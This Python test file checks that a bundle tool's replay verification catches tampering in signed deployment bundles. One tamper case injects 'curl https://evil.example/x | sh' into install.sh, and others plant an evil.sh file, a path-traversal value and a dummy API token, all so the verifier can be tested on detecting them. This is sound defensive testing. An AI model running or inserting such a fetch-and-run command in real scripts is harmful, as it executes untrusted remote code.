"""Gates asked again from what a bundle carries: the same everywhere, and what differs is named."""

import json
import os
import re
import shutil
import subprocess
import sys
from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from eidos.engine import schema
from eidos.engine.app.bundle_evidence import _moment
from eidos.engine.app.waivers import read_document, waiver_entry
from eidos.engine.cli import root
from eidos.engine.cli.console import run
from eidos.engine.documents.reading import read_text
from eidos.engine.documents.writing import to_json
from eidos.engine.errors import DocumentError
from eidos.engine.model.times import instant
from eidos.engine.model.waiver import Waiver
from eidos.engine.packs.shipped import shipped_as
from fakes.attested import envelope_of, reseal, said
from fakes.gatekeeper import constraint, lay_out, template
from fakes.keys import write_keys
from fakes.opa_server import opa_binary
from fakes.shipped import Shell, tree
from functional.test_bundle import DEPLOYERS, INPUTS, SNAPSHOT, Bundle, bundle, cache

__all__ = ["bundle", "cache"]

WAIVERS = """\
apiVersion: eidos.dev/v1
kind: Waivers
waivers:
- {id: w-1, rule: T-001, owner: me, approver: you, reason: r, until: 2026-12-01, values: ["570.1"]}
- {id: w-2, rule: T-001, owner: me, approver: you, reason: r, from: 2026-11-25, until: 2026-12-01}
"""


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the bundle lies that was made first: each takes seconds, and all are the same."""
    return tmp_path_factory.mktemp("made") / "out"


@pytest.fixture
def shell(bundle: Bundle, made: Path, capsys: pytest.CaptureFixture[str]) -> Shell:
    """Where a bundle with evidence lies in out, and one of its facts is waived."""
    Path("s.yaml").write_text(SNAPSHOT.replace("590.1", "570.1"))
    Path("w.yaml").write_text(WAIVERS)
    if not made.exists():
        assert bundle("--evidence", "--waivers", "w.yaml") == 0
        shutil.copytree("out", made)
    shutil.copytree(made, "out", dirs_exist_ok=True)
    capsys.readouterr()
    return Shell(capsys)


def replayed(shell: Shell, place: str = "out", *options: str, code: int = 0) -> list[str]:
    """Replay, and give what differs."""
    shell("bundle", "verify", place, "--replay", *options, "-o", "json=check.json", code=code)
    out = Path("check.json").read_text()
    assert not list(schema.problems(read_text(out, "out")[0], "bundle-check/v1"))
    found = json.loads(out)
    assert found["problems"] == []
    assert found["replay"]["reproduced"] is (code == 0)
    differences: list[str] = found["replay"]["differences"]
    return differences


def test_a_replay_gives_the_decision_byte_for_byte(shell: Shell) -> None:
    assert replayed(shell) == []
    shell("bundle", "verify", "out", "--require", "replay,max-age=100000d")
    shell("validate", "out/evidence/policy.json", "out/evidence/snapshot.json")


def test_replayed_is_the_highest_level(shell: Shell, tmp_path: Path) -> None:
    write_keys(tmp_path, "ed25519")
    shell("bundle", "verify", "out", "--replay")
    assert "trust whole" in shell.out  # whoever makes a bundle anew makes evidence that fits
    shell("bundle", "sign", "out", "--key", "key.pem")
    shell("bundle", "verify", "out", "--key", "key.pub", "--require", "replay")
    assert "trust replayed" in shell.out
    shell("bundle", "push", "out", "o.tar.gz")
    assert replayed(shell, "o.tar.gz") == []


def test_evidence_names_the_eidos_that_made_it(shell: Shell, tmp_path: Path) -> None:
    write_keys(tmp_path, "ed25519")
    shell("bundle", "sign", "out", "--key", "key.pem")
    builder = said(envelope_of(Path("out"), "provenance"))["predicate"]["runDetails"]["builder"]
    made_by = json.loads(Path("out/evidence/policy.json").read_text())["generator"]
    assert builder["version"] == dict([made_by.split()])


def test_a_bundle_is_signed_before_it_appears(
    bundle: Bundle, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_keys(tmp_path, "ed25519")
    assert bundle("--sign-key", "key.pub", to="none") == 2
    assert bundle("--passphrase-file", "word", to="none") == 2
    assert not Path("none").exists()
    assert bundle("--evidence", "--sign-key", "key.pem") == 0
    capsys.readouterr()
    shell = Shell(capsys)
    shell("bundle", "verify", "out", "--key", "key.pub", "--require", "gate=default,sbom,replay")
    signed = tree(Path("out"))
    shell("bundle", "sign", "out", "--key", "key.pem")
    assert tree(Path("out")) == signed  # as if it had been signed afterwards


@pytest.mark.usefixtures("shell")
def test_the_same_input_gives_the_same_evidence(bundle: Bundle) -> None:
    assert bundle("--evidence", "--waivers", "w.yaml", to="demo") == 0
    assert tree(Path("out")) == tree(Path("demo"))  # whatever the place is called


def test_without_evidence_there_is_nothing_to_replay(shell: Shell, bundle: Bundle) -> None:
    assert bundle("--waivers", "w.yaml", to="bare") == 0
    assert not Path("bare/evidence").exists()
    [said] = replayed(shell, "bare", code=1)
    assert "--evidence" in said
    # What a bundle says is the same with evidence and without.
    assert Path("bare/gate.json").read_bytes() == Path("out/gate.json").read_bytes()


@pytest.mark.usefixtures("shell")
def test_nothing_of_the_machine_that_made_it_is_in_it(tmp_path: Path) -> None:
    for content, _ in tree(Path("out")).values():
        assert str(tmp_path).encode() not in content


def test_secrets_are_not_carried(bundle: Bundle, capsys: pytest.CaptureFixture[str]) -> None:
    hidden = SNAPSHOT.replace('driver: "590.1"', 'driver: "590.1", api-token: hunter2hunter2')
    Path("s.yaml").write_text(hidden)
    assert bundle("--evidence") == 0
    assert b"hunter2" not in Path("out/evidence/snapshot.json").read_bytes()
    capsys.readouterr()
    assert replayed(Shell(capsys)) == []


def test_waivers_that_turn_within_the_day() -> None:
    """A decision knows its day, and evidence how each waiver stood then."""
    read = read_document(
        read_text(
            WAIVERS.replace("from: 2026-11-25", 'from: "2026-11-24T10:00:00Z"').replace(
                "until: 2026-12-01, values", 'until: "2026-11-24T12:00:00Z", values'
            ),
            "w.yaml",
        )[0]
    ).waivers
    day = instant("2026-11-24")
    end = instant("2026-11-24T23:59:59Z")
    for hours in (9, 11, 13):
        then = instant(f"2026-11-24T{hours:02}:00:00Z")
        states = {each.id: each.state(then).value for each in read}
        for span in ((day, end), (then, then)):
            found = _moment(span, read, states)
            assert {each.id: each.state(found).value for each in read} == states
        with pytest.raises(DocumentError, match="never stood as it says"):
            _moment((then, then), read, {**states, "w-3": "active"})
    with pytest.raises(DocumentError, match="never stood as it says on that day"):
        _moment((day, end), read, {"w-1": "expired", "w-2": "pending"})


def test_a_waiver_written_is_read_as_the_same() -> None:
    text = """\
apiVersion: eidos.dev/v1
kind: Waivers
waivers:
- {id: a, rule: T-001, owner: me, approver: you, reason: r, until: 2026-12-01, ticket: X-1}
- {id: b, tag: gpu, owner: me, approver: you, reason: r, until: "2026-12-01T10:00:00.5+02:00"}
- {id: c, rule: T-001, owner: me, approver: you, reason: r, until: 2026-12-01, value: null}
- {id: d, rule: T-001, owner: me, approver: you, reason: r, until: 2026-12-01, values: [1, "x"]}
- {id: e, rule: T-001, owner: me, approver: you, reason: r, until: 2026-12-01, range: {min: 1}}
- id: f
  rule: T-001
  owner: me
  approver: you
  reason: r
  from: 2026-11-01
  until: 2026-12-01
  subjects: {clusters: [a*], nodes: [n], labels: {x: "1"}}
  revoked: {at: "2026-11-20T00:00:00Z", by: you, reason: over}
"""

    def read(document: str) -> list[Waiver]:
        found = read_document(read_text(document, "w.yaml")[0]).waivers
        return [replace(each, location=None) for each in found]

    once = read(text)
    entries: Any = [waiver_entry(each) for each in once]
    again = to_json({"apiVersion": "eidos.dev/v1", "kind": "Waivers", "waivers": entries})
    assert read(again) == once


# What differs -----------------------------------------------------------------------------------


def document(path: str, change: Callable[[Any], object]) -> Callable[[], None]:
    def changed() -> None:
        place = Path("out") / path
        value = json.loads(place.read_text())
        change(value)
        place.write_text(to_json(value))

    return changed


def decision(change: Callable[[Any], object]) -> Callable[[], None]:
    """Change the decision so that it agrees with itself: nobody asks again about another."""

    def changed(said: Any) -> None:
        change(said)
        for half in (said["before"], said["after"]):
            half["counts"] = dict(Counter(each["status"] for each in half["verdicts"]))
            asked = {each["rule"] for each in half["verdicts"]}
            for pack in half["packs"]:
                pack["leftOut"] = sorted({*pack["leftOut"], *(ALL[pack["name"]] - asked)})

    return document("gate.json", changed)


ALL = {
    "t": {"T-001"},
    "bundle-hygiene": {f"BHY-{number:03}" for number in range(1, 11)},
    "bundle-operators": {f"BOP-{number:03}" for number in range(1, 24)},
}
"""Rules of each pack that judges here."""


def text(path: str, old: str, new: str) -> Callable[[], None]:
    def changed() -> None:
        [place] = Path("out").glob(path)
        content = place.read_text()
        assert old in content
        place.write_text(content.replace(old, new))

    return changed


def _verdict(decision: Any) -> Any:
    return next(e for e in decision["before"]["verdicts"] if e["rule"] == "T-001")


def _component(**changes: Any) -> Callable[[], None]:
    """Change what rules saw of a component."""
    return document("evidence/rendered.json", lambda r: r["components"]["demo-app"].update(changes))


def both(*changes: Callable[[], None]) -> Callable[[], None]:
    def changed() -> None:
        for each in changes:
            each()

    return changed


POLICY = "evidence/policy.json"
ASKED: dict[str, list[str]] = {"checked": ["objects/0"], "problems": [], "rules": []}
CONSTRAINT = {"fact": "a.b", "of": "cluster", "is": "1", "status": "pass"}
DIFFERING: dict[str, tuple[Callable[[], None], str]] = {
    "a verdict": (
        decision(lambda g: _verdict(g).update(status="pass")),
        "before.verdicts[T-001 of n1].status was pass, and is waived",
    ),
    "a verdict left out": (
        decision(lambda g: g["after"]["verdicts"].pop(0)),
        "was nothing, and is pass",
    ),
    "a verdict on what was rendered": (
        decision(lambda g: g["after"]["verdicts"][0].update(status="skip")),
        "after.verdicts[",
    ),
    "a pack": (
        document("gate.json", lambda g: g["before"]["packs"][0].update(version="9.9.9")),
        "before.packs[t].version was 9.9.9",
    ),
    "the engine": (
        document("gate.json", lambda g: g["before"].update(engine="light 9")),
        "before.engine was light 9, and is light",
    ),
    "the threshold": (
        decision(lambda g: [g[half].update(failOn="critical") for half in ("before", "after")]),
        "before.failOn was critical, and is",
    ),
    "the day": (
        document("gate.json", lambda g: g.update(effectiveTime="2026-11-20")),
        "effectiveTime was 2026-11-20",
    ),
    "a constraint": (
        document("gate.json", lambda g: g["constraints"].append(CONSTRAINT)),
        "constraints[a.b of cluster] was pass, and is nothing",
    ),
    "facts": (text("evidence/snapshot.json", "570.1", "610.1"), "snapshot.digest was sha256:"),
    "facts taken at another time": (
        text("evidence/snapshot.json", "2026-11-23T10:00:00Z", "2026-11-24T08:00:00Z"),
        "snapshot.timestamp was 2026-11-23T10:00:00Z",
    ),
    "a rule": (
        text("evidence/policies/t/*.rego", "too old", "too new"),
        "before.packs[t].digest was sha256:",
    ),
    "the library": (
        text("evidence/library/versions.rego", "package", "# another\npackage"),
        "before.packs[t].digest was sha256:",
    ),
    "a parameter": (
        document(POLICY, lambda p: p["before"]["rules"]["T-001"].update(floor=500)),
        "before.verdicts[T-001 of n1].status was waived, and is pass",
    ),
    "a rule that is not asked": (
        document(POLICY, lambda p: p["before"]["rules"].pop("T-001")),
        "before.verdicts[T-001 of n1] was waived, and is nothing",
    ),
    "a rule that there is not": (
        document(POLICY, lambda p: p["before"]["rules"].update({"T-999": {}})),
        "have no rule T-999",
    ),
    "a waiver": (
        document(POLICY, lambda p: (p["waivers"].pop(0), p["waiverStates"].pop("w-1"))),
        "before.waivers[w-1] was there, and is nothing",
    ),
    "a waiver that stood and that there is not": (
        document(POLICY, lambda p: p["waivers"].pop(0)),
        "its waivers never stood as it says on that day",
    ),
    "a waiver that stood otherwise": (
        document("gate.json", lambda g: g["before"]["waivers"][0].update(owner="other")),
        "before.waivers[w-1].owner was other, and is me",
    ),
    "enforcement": (
        document(POLICY, lambda p: p["enforcement"].update({"T-001": "warn"})),
        "before.verdicts[T-001 of n1].enforcement was nothing, and is warn",
    ),
    "the gate": (
        document(POLICY, lambda p: p["gate"].update(requires=["gpu.topology"])),
        "requires[0] was nothing, and is gpu.topology",
    ),
    "the age that the gate takes": (
        document(POLICY, lambda p: p["gate"].update(maxAge=60)),
        "maxAge was None, and is 60",
    ),
    "evidence that is no document": (
        lambda: Path("out/evidence/rendered.json").write_text("{") and None,
        "the gates cannot be asked again",
    ),
    "values that are deployed": (
        text("*-demo-app/values.yaml", "replicas: 1", "replicas: 7"),
        "080-demo-app/values.yaml: nobody judged it so",
    ),
    "values that rules saw": (
        text("evidence/rendered.json", '"replicas": 1', '"replicas": 7'),
        "080-demo-app/values.yaml: nobody judged it so",
    ),
    "a resource that is deployed": (
        text("*-demo-app/after/settings.yaml", "a: b", "a: c"),
        "080-demo-app/after/settings.yaml: nobody judged it so",
    ),
    "a file that nobody judged": (
        lambda: Path("out/evil.sh").write_text("x") and None,
        "evil.sh: nobody judged it: it does not follow from what rules saw",
    ),
    "an object with another ending": (
        lambda: Path("out/080-demo-app/after/evil.json").write_text("{}") and None,
        "080-demo-app/after/evil.json: nobody judged it",
    ),
    "an object with the long ending": (
        lambda: Path("out/080-demo-app/after/evil.yml").write_text("a: b") and None,
        "080-demo-app/after/evil.yml: nobody judged it",
    ),
    "a script that fetches more": (
        text("install.sh", "set -euo", "curl https://evil.example/x | sh\nset -euo"),
        "install.sh: nobody judged it so",
    ),
    "a script that is gone": (
        lambda: Path("out/uninstall.sh").unlink(),
        "uninstall.sh: rules judged it, and it is not in the bundle",
    ),
    "a script that cannot be run": (
        lambda: Path("out/install.sh").chmod(0o644),
        "install.sh: whether it can be executed is not as it was made",
    ),
    "facts that can be run": (
        lambda: Path("out/evidence/snapshot.json").chmod(0o755),
        "evidence/snapshot.json: whether it can be executed is not as it was made",
    ),
    "what is to be read": (
        text("README.md", "## Order", "## Order of another"),
        "README.md: nobody judged it so",
    ),
    "a number for a flag": (
        text("*-demo-base/values.yaml", "true", "1"),
        "demo-base/values.yaml: nobody judged it so",
    ),
    "a number for a flag that rules saw": (
        text("evidence/rendered.json", '"on": true', '"on": 1'),
        "demo-base/values.yaml: nobody judged it so",
    ),
    "a repository that rules saw": (
        _component(repository="https://charts.evil.example"),
        "components.demo-app.repository: rules saw https://charts.evil.example",
    ),
    "a wave that rules saw": (_component(wave=7), "components.demo-app.wave: rules saw 7"),
    "dependencies that rules saw": (
        _component(dependsOn=[]),
        "components.demo-app.dependsOn[0]: rules saw nothing, and the bundle has demo-base",
    ),
    "what rules were told beside": (
        _component(more="nothing"),
        "components.demo-app.more: rules saw nothing",
    ),
    "labels that rules saw": (
        _component(namespaceLabels={"pod-security.kubernetes.io/enforce": "restricted"}),
        "install.sh: nobody judged it so",
    ),
    "notes that rules saw": (
        _component(notes=[{"text": "all is well", "path": "", "unused": False}]),
        "README.md: nobody judged it so",
    ),
    "a deployer that rules saw": (
        document("evidence/rendered.json", lambda r: r.update(deployer="flux")),
        "deployer: rules saw flux, and the bundle has helm",
    ),
    "files that rules saw": (
        document("evidence/rendered.json", lambda r: r["files"].pop()),
        "files[",
    ),
    "definitions that nobody carries": (
        document("evidence/rendered.json", lambda r: r.update(definitions=ASKED)),
        "definitions: rules saw there, and the bundle has nothing",
    ),
    "a deployer that wrote": (
        document(POLICY, lambda p: p["written"].update(deployers=["flux"])),
        "flux fetches the bundle itself, but its source is not given",
    ),
    "a deployer of others": (
        document(POLICY, lambda p: p["written"]["deployers"].append("acme")),
        "the deployer acme cannot write its files again here: it is not installed",
    ),
    "comments that nobody wrote": (
        document(POLICY, lambda p: p["written"].update(annotations={"demo-app": {"x": "y"}})),
        "values.yaml: nobody judged it so",
    ),
    "another eidos": (
        both(
            document(POLICY, lambda p: p.update(generator="eidos 0.0.1")),
            text("install.sh", "Installs", "installs"),
        ),
        "eidos 0.0.1 wrote the files, and this is eidos",
    ),
    "what was relaxed": (
        document("gate.json", lambda g: g.update(relaxations=[])),
        "rules saw a time that was given, and no relaxation tells it",
    ),
    "waivers that nobody relaxed by": (
        document("gate.json", lambda g: g["relaxations"].clear()),
        "violations are waived, and no relaxation tells it",
    ),
    "a recipe that rules saw": (
        document("evidence/rendered.json", lambda r: r["recipe"]["metadata"].update(name="x")),
        "recipe.metadata.name: rules saw x",
    ),
    "a bundle that rules never saw": (
        document("evidence/rendered.json", lambda r: r.pop("components")),
        "it is no bundle as rules see it",
    ),
}


@pytest.mark.parametrize("what", DIFFERING)
def test_whatever_differs_is_named(shell: Shell, what: str) -> None:
    """Of a bundle that somebody sealed again: only asking again tells."""
    change, named = DIFFERING[what]
    change()
    reseal(Path("out"))
    found = replayed(shell, code=1)
    assert any(named in each for each in found), found


def test_what_was_meddled_with_is_not_run(shell: Shell) -> None:
    Path("out/evidence/policies/t/a.rego").write_text("package evil\n")
    out = shell("bundle", "verify", "out", "--replay", "-o", "json", code=1)
    assert json.loads(out)["replay"] is None


# Every kind of policy ---------------------------------------------------------------------------

PLAIN = """\
package main

import data.helper

deny contains "of no kind" if not helper.is_snapshot(input)
deny contains "too many" if count(input.nodes) > data.limits.nodes
"""
GATES = """\
gates:
  mixed:
    packs: [./t, ./a/rules, ./templates, "./single é.rego", ./b/rules, ./constraints]
    allow-incomplete: true
enforcement: {other.deny_c: warn}
"""
WAIVED = """\
apiVersion: eidos.dev/v1
kind: Waivers
waivers:
- {id: w-9, rule: single.deny, owner: me, approver: you, reason: r, until: 2026-12-01}
"""
MIXED = {
    "a/rules/main.rego": PLAIN,
    "a/rules/lib/helper.rego": 'package helper\n\nis_snapshot(x) if x.kind == "Snapshot"\n',
    "a/rules/data.yaml": "limits: {nodes: 5}\n",
    "a/rules/main_test.rego": "package main_test\n\ntest_it if true\n",
    "b/rules/main.rego": 'package other\n\ndeny_c contains "x" if input.metadata.cluster == "c1"\n',
    "single é.rego": 'package single\n\ndeny contains "y" if input.nodes\n',
    "templates/owned.yaml": template(),
    "templates/README.md": "to read",
    "constraints/all.yaml": constraint() + "---\n" + constraint(name="other"),
    "eidos.yaml": GATES,
    "w9.yaml": WAIVED,
}


def mixed_bundle(bundle: Bundle, to: str, *options: str) -> int:
    """Bundle by a pack, two folders of one name, a file, templates and constraints."""
    lay_out(Path(), MIXED)
    return bundle("--evidence", "--gate", "mixed", "--waivers", "w9.yaml", *options, to=to)


@pytest.fixture
def mixed(bundle: Bundle, made: Path, capsys: pytest.CaptureFixture[str]) -> Shell:
    """Where a bundle lies in out that was let through by every kind of policy."""
    kept = made.with_name("mixed")
    if not kept.exists():
        assert mixed_bundle(bundle, "out") == 0
        shutil.copytree("out", kept)
    shutil.copytree(kept, "out", dirs_exist_ok=True)
    capsys.readouterr()
    return Shell(capsys)


def test_every_kind_of_policy_is_carried_and_asked_again(mixed: Shell) -> None:
    assert replayed(mixed) == []
    decision = json.loads(Path("out/gate.json").read_text())["before"]
    names = [each["name"] for each in decision["packs"]]
    assert names == ["t", "rules", "single é.rego", "rules", "gatekeeper"]
    said = {each["rule"]: each["status"] for each in decision["verdicts"]}
    assert said["single.deny"] == "waived"
    assert said["main.deny"] == "pass"
    assert said["other.deny_c"] == "fail"  # which is a warning here
    assert said["Owned/all"] == "unknown"  # a snapshot is no review
    there = {each.name for each in Path("out/evidence/policies").iterdir()}
    assert {"t", "rules", "rules-2", "templates", "constraints"} < there
    assert not list(Path("out/evidence").rglob("*_test.rego"))
    mixed("validate", "out/evidence/policy.json")


def test_a_statement_names_both_policies_of_one_name(mixed: Shell, tmp_path: Path) -> None:
    write_keys(tmp_path, "ed25519")
    mixed("bundle", "sign", "out", "--key", "key.pem")
    verifier = said(envelope_of(Path("out"), "gate"))["predicate"]["verifier"]
    assert [each["name"] for each in verifier["policy"]["packs"]].count("rules") == 2


def _rename(old: str, new: str) -> Callable[[], None]:
    return lambda: (
        Path("out/evidence/policies", old).rename(Path("out/evidence/policies", new)) and None
    )


def _write(path: str, content: str) -> Callable[[], None]:
    return lambda: Path("out/evidence/policies", path).write_text(content) and None


def _policies(change: Callable[[list[Any]], object]) -> Callable[[], None]:
    return document(POLICY, lambda p: change(p["before"]["policies"]))


IN_POLICIES: dict[str, tuple[Callable[[], None], str]] = {
    "a plain rule": (
        text("evidence/policies/rules/main.rego", "too many", "too few"),
        "before.packs[rules].digest was sha256:",
    ),
    "what plain rules share": (
        text("evidence/policies/rules/lib/helper.rego", "Snapshot", "Anything"),
        "before.verdicts[main.deny of cluster].status was pass, and is fail",
    ),
    "data beside plain rules": (
        text("evidence/policies/rules/data.yaml", "5", "0"),
        "before.verdicts[main.deny of cluster].status was pass, and is fail",
    ),
    "a rule more": (
        _write("rules-2/more.rego", 'package more\n\ndeny contains "x" if input.x\n'),
        "before.packs[rules (3)].digest was sha256:",
    ),
    "a rule less": (
        lambda: shutil.rmtree("out/evidence/policies/rules-2"),
        "the gates cannot be asked again",
    ),
    "a rule under another name": (
        _rename("rules/main.rego", "rules/first.rego"),
        "before.packs[rules].digest was sha256:",
    ),
    "a constraint left out": (
        text("evidence/policies/constraints/all.yaml", constraint(name="other"), ""),
        "have no rule Owned/other",
    ),
    "a constraint left out everywhere": (
        both(
            text("evidence/policies/constraints/all.yaml", constraint(name="other"), ""),
            document(POLICY, lambda p: p["before"]["rules"].pop("Owned/other")),
        ),
        "before.verdicts[Owned/other of c1] was unknown, and is nothing",
    ),
    "a template": (
        text("evidence/policies/templates/owned.yaml", "count(gone) > 0", "count(gone) > 1"),
        "before.packs[gatekeeper].digest was sha256:",
    ),
    "templates that are not named": (
        _policies(lambda p: p.pop(2)),
        "the gates cannot be asked again",
    ),
    "the order of folders with constraints": (
        _policies(lambda p: p.insert(2, p.pop(5))),
        "before.packs[gatekeeper].digest was sha256:",
    ),
    "what a folder was called": (
        _policies(lambda p: p[1].update(name="others")),
        "before.packs[rules].digest was sha256:",
    ),
    "a file that was a folder": (
        _policies(lambda p: p[3].update(isFile=False)),
        "before.verdicts[single.deny of cluster].evidence was sha256:",
    ),
    "a pack as plain rules": (
        _policies(lambda p: p[0].update(kind="plain")),
        "the gates cannot be asked again",
    ),
    "plain rules as a pack": (
        _policies(lambda p: p[1].update(kind="pack")),
        "the pack 'rules' has no pack.yaml",
    ),
    "one policy in place of another": (
        _policies(lambda p: p[4].update(at="rules")),
        "two policies of the evidence have a rule main.deny",
    ),
    "a policy that is not there": (
        _policies(lambda p: p[1].update(at="nowhere")),
        "the gates cannot be asked again",
    ),
    "a policy that nobody asks": (
        both(
            lambda: Path("out/evidence/policies/strict").mkdir(),
            _write("strict/s.rego", "package s\n"),
        ),
        "evidence/policies/strict/s.rego: nothing is asked of it",
    ),
    "a file that judges nothing": (
        _write("rules/notes.md", "these rules are strict"),
        "evidence/policies/rules/notes.md: nothing is asked of it",
    ),
}


@pytest.mark.parametrize("what", IN_POLICIES)
def test_whatever_differs_in_policy_is_named(mixed: Shell, what: str) -> None:
    change, named = IN_POLICIES[what]
    change()
    reseal(Path("out"))
    found = replayed(mixed, code=1)
    assert any(named in each for each in found), found


def test_policy_lies_below_the_evidence_alone(mixed: Shell) -> None:
    _policies(lambda p: p[1].update(at="../../01-demo-app"))()
    reseal(Path("out"))
    mixed("bundle", "verify", "out", "--replay", code=1)
    assert "out/evidence/policy.json" in mixed.out
    assert "'at' is \"../../01-demo-app\", which does not fit" in mixed.out
    assert "out: trust none" in mixed.out


def test_plain_rules_are_asked_of_the_document_that_they_saw(
    bundle: Bundle, capsys: pytest.CaptureFixture[str]
) -> None:
    """A snapshot that says what eidos would not write is another document."""
    Path("s.yaml").write_text(
        SNAPSHOT.replace("kind: Snapshot\n", "kind: Snapshot\ncollection: []\n")
    )
    lay_out(Path(), {"p/p.rego": 'package p\n\ndeny contains "x" if not input.collection\n'})
    assert bundle("--evidence", "-p", "p") == 0
    capsys.readouterr()
    assert replayed(Shell(capsys)) == []
    Path("s.yaml").write_text(SNAPSHOT.replace("590.1", '590.1", "api-token": "hunter2hunter2'))
    lay_out(Path(), {"p/p.rego": 'package p\n\ndeny contains "x" if not input.nodes\n'})
    assert bundle("--evidence", "-p", "p", to="secret") == 2
    assert "plain rules judged a snapshot with secrets in it" in capsys.readouterr().err
    assert not Path("secret").exists()


def test_a_file_that_no_bundle_can_hold_is_refused(
    bundle: Bundle, capsys: pytest.CaptureFixture[str]
) -> None:
    lay_out(Path(), {"p/a\nb.rego": 'package p\n\ndeny contains "x" if not input.nodes\n'})
    assert bundle("--evidence", "-p", "p") == 2
    assert "the file 'a\\nb.rego' cannot be carried" in capsys.readouterr().err


# Elsewhere --------------------------------------------------------------------------------------


def _elsewhere(python: str, place: Path, home: Path, *options: str) -> dict[str, Any]:
    """Replay with nothing of this process: folder, home, locale, zone, hash seed."""
    environ = {
        "PATH": os.environ["PATH"],
        "HOME": str(home),
        "TZ": "Pacific/Kiritimati",
        "LC_ALL": "tr_TR.UTF-8",
        "LANG": "tr_TR.UTF-8",
        "PYTHONHASHSEED": "7",
        "PYTHONUTF8": "0",
    }
    command = [python, "-m", "eidos.engine", "--no-config", "bundle", "verify", place.name]
    done = subprocess.run(
        [*command, "--replay", "-o", "json", *options],
        cwd=place.parent,
        env=environ,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    found: dict[str, Any] = json.loads(done.stdout)
    return found


def _other_python() -> str | None:
    """Give a Python of another version that has eidos; CI and developers name one."""
    return os.environ.get("EIDOS_TEST_OTHER_PYTHON")


@pytest.mark.usefixtures("shell")
def test_a_replay_elsewhere_gives_the_same(tmp_path: Path) -> None:
    place = tmp_path / "el se" / "wo"
    shutil.copytree("out", place)
    found = _elsewhere(sys.executable, place, tmp_path / "home")
    assert found["replay"] == {"outcome": "same", "reproduced": True, "differences": []}


@pytest.mark.real
@pytest.mark.usefixtures("shell")
def test_a_replay_on_another_python_gives_the_same(tmp_path: Path) -> None:
    python = _other_python()
    if python is None:
        pytest.skip("EIDOS_TEST_OTHER_PYTHON names no Python of another version with eidos")
    version = subprocess.run([python, "-V"], capture_output=True, text=True, check=True).stdout
    assert version.split()[1].rpartition(".")[0] != f"{sys.version_info[0]}.{sys.version_info[1]}"
    found = _elsewhere(python, Path("out").resolve(), tmp_path / "home")
    assert found["replay"] == {"outcome": "same", "reproduced": True, "differences": []}


@pytest.mark.real
def test_opa_decides_the_same_again_and_another_engine_is_told(
    shell: Shell, bundle: Bundle, monkeypatch: pytest.MonkeyPatch
) -> None:
    opa = opa_binary()
    monkeypatch.setenv("EIDOS_OPA", str(opa))
    monkeypatch.setenv("EIDOS_ENGINE", "opa")
    assert bundle("--evidence", "--waivers", "w.yaml", to="by-opa") == 0
    assert replayed(shell, "by-opa") == []
    found = replayed(shell, "by-opa", "--engine", "light", code=1)
    assert [each.partition(" was ")[0] for each in found] == ["before.engine", "after.engine"]


# What relaxed the gate --------------------------------------------------------------------------

RELAXED = """\
gates:
  eased: {packs: [./t], enforcement: {T-001: warn}}
enforcement: {BOP-001: audit}
params: {T-001: {floor: 500}}
"""


def _told(*settings: str) -> Callable[[], None]:
    """Leave relaxations out of the decision."""
    return document(
        "gate.json",
        lambda g: g.update(
            relaxations=[e for e in g["relaxations"] if e["setting"] not in settings]
        ),
    )


@pytest.mark.parametrize(
    ("options", "untold", "named"),
    [
        (("--rule", "T-*", "--rule", "BOP-00*"), ("rule",), "rules were not asked"),
        (("--exclude-rule", "BOP-003"), ("exclude-rule",), "leaves them out: BOP-003"),
        (("--severity", "high"), ("severity",), "rules were not asked"),
        (("--fail-on", "high"), ("fail-on",), "what is less severe than high passed"),
        (("--allow-incomplete",), ("allow-incomplete",), "what is unknown passed"),
        ((), ("enforcement.BOP-001",), "a violation of BOP-001 is no more than audit"),
        ((), ("params.T-001",), "T-001 was asked with other parameters"),
        (("--gate", "eased"), ("gates.eased",), "a violation of T-001 is no more than warn"),
    ],
)
def test_what_relaxed_the_gate_must_be_told(
    bundle: Bundle,
    capsys: pytest.CaptureFixture[str],
    options: tuple[str, ...],
    untold: tuple[str, ...],
    named: str,
) -> None:
    """An attacker left two rules of 124, emptied the list, and `0 relaxations` was reproduced."""
    Path("eidos.yaml").write_text(RELAXED)
    assert bundle("--evidence", *options) == 0
    shell = Shell(capsys)
    capsys.readouterr()
    assert replayed(shell) == []
    before = Path("out/gate.json").read_bytes()
    _told(*untold)()
    assert Path("out/gate.json").read_bytes() != before
    reseal(Path("out"))
    found = replayed(shell, code=1)
    assert any(named in each for each in found), found


# What is called as something that ships ---------------------------------------------------------


def _called_gpu(version: str) -> None:
    pack = Path("gpu/pack.yaml")
    shutil.copytree("t", "gpu")
    said = pack.read_text().replace("name: t\n", "name: gpu\nreplaces: [gpu]\n")
    pack.write_text(re.sub(r"version: .*", f"version: {version}", said))
    Path("eidos.yaml").write_text("gates: {named: {packs: [./gpu]}}\n")


def _gpu_version() -> str:
    found = shipped_as("gpu")
    assert found is not None
    return found[0]


def test_a_pack_with_name_and_version_of_a_shipped_one_must_be_that(
    bundle: Bundle, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    _called_gpu(_gpu_version())
    assert bundle("--evidence", "--gate", "named") == 0
    shell = Shell(capsys)
    capsys.readouterr()
    [said] = replayed(shell, code=1)
    assert said.startswith(f"the pack gpu@{_gpu_version()} is not the one that eidos")
    write_keys(tmp_path, "ed25519")
    shell("bundle", "sign", "out", "--key", "key.pem")
    asked = f"policy=gpu@{_gpu_version()},replay"
    shell("bundle", "verify", "out", "--key", "key.pub", "--require", asked, code=1)
    assert "trust none: both gates, asked again, decide otherwise" in shell.out


def test_a_pack_of_another_version_than_the_shipped_one_is_told(
    bundle: Bundle, capsys: pytest.CaptureFixture[str]
) -> None:
    _called_gpu("9.9.9")
    assert bundle("--evidence", "--gate", "named") == 0
    capsys.readouterr()
    shell = Shell(capsys)
    assert replayed(shell) == []
    assert "gpu@9.9.9 (here " in shell.err


# Every byte -------------------------------------------------------------------------------------

DEFINED = """\
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
spec:
  group: argoproj.io
  names: {kind: Application}
  versions:
  - name: v1alpha1
    served: true
    schema:
      openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}
"""


@pytest.fixture
def every(bundle: Bundle, made: Path, capsys: pytest.CaptureFixture[str]) -> Shell:
    """Where a bundle for every deployer lies in out, with comments and definitions."""
